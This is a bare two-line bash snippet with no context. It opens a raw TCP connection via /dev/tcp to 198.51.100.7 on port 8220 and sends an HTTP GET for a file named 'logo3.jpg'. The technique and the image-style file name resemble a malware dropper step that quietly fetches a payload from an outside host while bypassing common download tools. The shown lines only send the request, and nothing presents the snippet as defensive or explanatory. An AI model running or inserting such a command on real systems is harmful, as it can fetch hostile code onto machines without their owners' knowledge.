exec 3<>/dev/tcp/198.51.100.7/8220
echo -e "GET /logo3.jpg HTTP/1.0\r\n\r\n" >&3
